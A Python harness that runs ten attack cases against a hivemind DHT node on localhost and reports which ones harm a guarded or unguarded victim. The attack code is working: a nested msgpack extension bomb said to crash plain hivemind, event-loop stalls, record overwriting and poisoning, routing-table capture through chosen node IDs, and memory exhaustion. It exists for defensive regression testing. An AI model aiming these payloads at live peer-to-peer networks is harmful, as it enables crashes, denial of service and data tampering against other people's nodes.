"""`python dht_attack.py ours|plain CASE...`: attack a DHT node and print what each case did to it.

One line of JSON a case: `harm` is empty when the victim is as it was before. The attacker is a
daemon of ours that sends raw DHT requests; the victim is a `Libp2pNetwork`, or hivemind's own
`DHTNode` on the same daemon without the guard.
"""

import asyncio
import json
import math
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from pathlib import Path

import msgspec
import psutil
from hivemind.dht.node import DHTNode
from hivemind.dht.routing import DHTID
from hivemind.p2p import P2P, PeerID
from hivemind.p2p.p2p_daemon_bindings.utils import P2PDaemonError, P2PHandlerError
from hivemind.proto import dht_pb2

from protocols.adapters.clock import SystemClock
from protocols.adapters.libp2p.network import Libp2pConfig, Libp2pNetwork
from protocols.signing import Identity

encode = msgspec.msgpack.encode
Ext = msgspec.msgpack.Ext

LIFE = 600.0
BLOCKED_SECONDS = 0.5
MEMORY_KIB = 64 * 1024
KEY = "dslm/1/attacked/key"


class Victim:
    """A node under attack, reached through its daemon; `ours` or `plain`."""

    def __init__(self, network: Libp2pNetwork, plain: DHTNode | None) -> None:
        self.network = network
        self.plain = plain
        self.subkey = network.transport.peer_id

    async def put(self, key: str, value: bytes, expires_at: float) -> None:
        if self.plain is not None:
            await self.plain.store(key, value, expires_at, subkey=self.subkey)
        else:
            assert await self.network.records.put(key, self.subkey, value, expires_at)

    async def get(self, key: str) -> bytes | None:
        """What lies under our own subkey."""
        if self.plain is not None:
            found = await self.plain.get(key, latest=True)
            if found is None or not isinstance(found.value, dict):
                return None
            item = found.value.get(self.subkey)
            return bytes(item.value) if item else None
        stored = (await self.network.records.get(key)).get(self.subkey)
        return stored.value if stored else None

    @property
    def node(self) -> DHTNode:
        return self.plain or self.network.records._node


class Attacker:
    """Sends DHT requests of any shape."""

    def __init__(self, p2p: P2P, victim: PeerID) -> None:
        self._control = p2p._client.control
        self._victim = victim
        self.peer = p2p.peer_id

    async def send(self, method: str, data: bytes) -> bytes | None:
        try:
            async with asyncio.timeout(20):
                answer: bytes = await self._control.call_unary_handler(
                    self._victim, f"DHTProtocol.{method}", data
                )
                return answer
        except (P2PHandlerError, P2PDaemonError, TimeoutError) as error:
            sys.stderr.write(f"{method}: {error!r}"[:200] + "\n")
            return None

    async def store(self, key: str, subkey: bytes, value: bytes, expires_at: float) -> None:
        await self.store_many([key], subkey, value, expires_at)

    async def store_many(
        self, keys: list[str], subkey: bytes, value: bytes, expires_at: float
    ) -> None:
        request = dht_pb2.StoreRequest(
            keys=[DHTID.generate(key).to_bytes() for key in keys],
            subkeys=[subkey] * len(keys),
            values=[value] * len(keys),
            expiration_time=[expires_at] * len(keys),
            in_cache=[False] * len(keys),
        )
        await self.send("rpc_store", request.SerializeToString())


def plain_subkey() -> bytes:
    return encode(None)


def text_subkey(text: str) -> bytes:
    return encode(text)


def extension_bomb(depth: int) -> bytes:
    data = b"\x01"
    for _ in range(depth):
        data = encode(Ext(0x40, data))
    return data


async def nested_extensions(attacker: Attacker, victim: Victim) -> str:
    """A value of 400 nested extensions ends plain hivemind with SIGSEGV."""
    await attacker.store(KEY, b"", extension_bomb(400), time.time() + LIFE)
    await attacker.store(KEY, extension_bomb(400), b"\x01", time.time() + LIFE)
    return await check(victim)


async def nested_arrays_in_a_dictionary(attacker: Attacker, victim: Victim) -> str:
    body = b"\x93\x01\x01\x91" + b"\x91" * 50_000 + b"\x01"
    value = encode(Ext(0x50, body))
    await attacker.store(KEY, b"", value, time.time() + LIFE)
    return await check(victim)


async def shorter_expiry(attacker: Attacker, victim: Victim) -> str:
    """A short-lived duplicate takes the live record with it when it ends."""
    key = "dslm/1/attacked/short"
    await victim.put(key, b"alive", time.time() + LIFE)
    value = encode(b"x")
    await attacker.store(key, text_subkey(victim.subkey), value, time.time() + 0.6)
    await asyncio.sleep(0.8)
    return "" if await victim.get(key) == b"alive" else "the live record is gone"


async def plain_value_on_a_dictionary(attacker: Attacker, victim: Victim) -> str:
    key = "dslm/1/attacked/plain"
    await victim.put(key, b"alive", time.time() + LIFE)
    await attacker.store(key, plain_subkey(), encode(b"mine now"), time.time() + 2 * LIFE)
    return "" if await victim.get(key) == b"alive" else "the dictionary was replaced"


async def invalid_value_byte(attacker: Attacker, victim: Victim) -> str:
    """One undecodable value makes every read of its key hang."""
    key = "dslm/1/attacked/poison"
    await victim.put(key, b"alive", time.time() + LIFE)
    other = Identity.generate().peer_id
    await attacker.store(key, text_subkey(other), b"\xc1", time.time() + LIFE)
    try:
        async with asyncio.timeout(5):
            found = await victim.get(key)
    except TimeoutError:
        return "reading the key hangs"
    return "" if found == b"alive" else "the record is hidden"


async def chosen_node_ids(attacker: Attacker, victim: Victim) -> str:
    """One peer takes all places near a key."""
    near = DHTID.generate(KEY)
    for offset in range(1, 41):
        chosen = DHTID(int(near) ^ offset)
        request = dht_pb2.PingRequest(peer=dht_pb2.NodeInfo(node_id=chosen.to_bytes()))
        await attacker.send("rpc_ping", request.SerializeToString())
    table = victim.node.protocol.routing_table
    taken = [peer for _, peer in table.get_nearest_neighbors(near, 20) if peer == attacker.peer]
    return "" if len(taken) <= 1 else f"{len(taken)} of the 20 nearest are one peer"


async def many_keys(attacker: Attacker, victim: Victim) -> str:
    """A search for 150,000 keys stops the event loop."""
    keys = [DHTID.generate(number).to_bytes() for number in range(150_000)]
    request = dht_pb2.FindRequest(keys=keys).SerializeToString()
    del keys
    blocked = asyncio.Event()
    longest = 0.0

    async def watch() -> None:
        nonlocal longest
        while not blocked.is_set():
            before = time.perf_counter()
            await asyncio.sleep(0.01)
            longest = max(longest, time.perf_counter() - before)

    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(watch())
        await attacker.send("rpc_find", request)
        blocked.set()
    if longest > BLOCKED_SECONDS:
        return f"the event loop stood still for {longest:.1f} s"
    return await check(victim)


async def endless_expiry(attacker: Attacker, victim: Victim) -> str:
    """Records without an end are kept for ever."""
    for number, expires_at in enumerate((math.inf, math.nan, time.time() + 10 * 86_400)):
        key = f"dslm/1/attacked/endless/{number}"
        subkey = text_subkey(Identity.generate().peer_id)
        await attacker.store(key, subkey, encode(b"x"), expires_at)
        if victim.node.protocol.storage.get(DHTID.generate(key)) is not None:
            return f"a record that lives until {expires_at} was kept"
    return await check(victim)


def resident_kib() -> int:
    """Memory that this process has now; its peak would hide growth below an earlier one."""
    return int(psutil.Process().memory_info().rss) // 1024


async def oversized_values(attacker: Attacker, victim: Victim) -> str:
    before = resident_kib()
    value = encode(b"x" * 3_900_000)
    for number in range(30):
        subkey = text_subkey(Identity.generate().peer_id)
        await attacker.store(f"dslm/1/big/{number}", subkey, value, time.time() + LIFE)
    grown = resident_kib() - before
    if grown > MEMORY_KIB:
        return f"memory grew by {grown // 1024} MiB"
    return await check(victim)


async def garbage(attacker: Attacker, victim: Victim) -> str:
    for method in ("rpc_ping", "rpc_store", "rpc_find"):
        for data in (b"", b"\xff" * 100, b"\x0a\xff\xff\xff\xff\x7f", bytes(range(256))):
            await attacker.send(method, data)
    for columns in ({"keys": [b"x"]}, {"keys": [b"x" * 20], "values": [b"1", b"2"]}):
        await attacker.send("rpc_store", dht_pb2.StoreRequest(**columns).SerializeToString())
    await attacker.send("rpc_find", dht_pb2.FindRequest(keys=[b"short"]).SerializeToString())
    return await check(victim)


async def check(victim: Victim) -> str:
    """Whether the victim still stores and finds."""
    value = str(time.time()).encode()
    async with asyncio.timeout(5):
        await victim.put("dslm/1/attacked/check", value, time.time() + LIFE)
        if await victim.get("dslm/1/attacked/check") != value:
            return "the victim no longer finds what it stored"
    return ""


CASES: dict[str, Callable[[Attacker, Victim], Awaitable[str]]] = {
    case.__name__: case
    for case in (
        nested_extensions,
        nested_arrays_in_a_dictionary,
        shorter_expiry,
        plain_value_on_a_dictionary,
        invalid_value_byte,
        chosen_node_ids,
        many_keys,
        endless_expiry,
        oversized_values,
        garbage,
    )
}


async def main(kind: str, cases: list[str]) -> None:
    clock = SystemClock()
    with tempfile.TemporaryDirectory() as folder:
        networks = [
            Libp2pNetwork(
                Libp2pConfig(Identity.generate(), ("/ip4/127.0.0.1/tcp/0",), Path(folder)), clock
            )
            for _ in range(2)
        ]
        async with networks[0] as attacking, networks[1] as attacked:
            await attacking.transport.connect(attacked.transport.addresses()[0])
            plain = await replace_by_plain(attacked) if kind == "plain" else None
            attacker = Attacker(
                attacking.transport.daemon().p2p, attacked.transport.daemon().p2p.peer_id
            )
            for case in cases:
                harm = await CASES[case](attacker, Victim(attacked, plain))
                sys.stdout.write(json.dumps({"case": case, "harm": harm}) + "\n")
                sys.stdout.flush()


async def replace_by_plain(network: Libp2pNetwork) -> DHTNode:
    """hivemind's own node in the place of our guarded one, on the same daemon."""
    assert network.records._node is not None
    await network.records._node.shutdown()
    return await DHTNode.create(p2p=network.transport.daemon().p2p)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2:]))
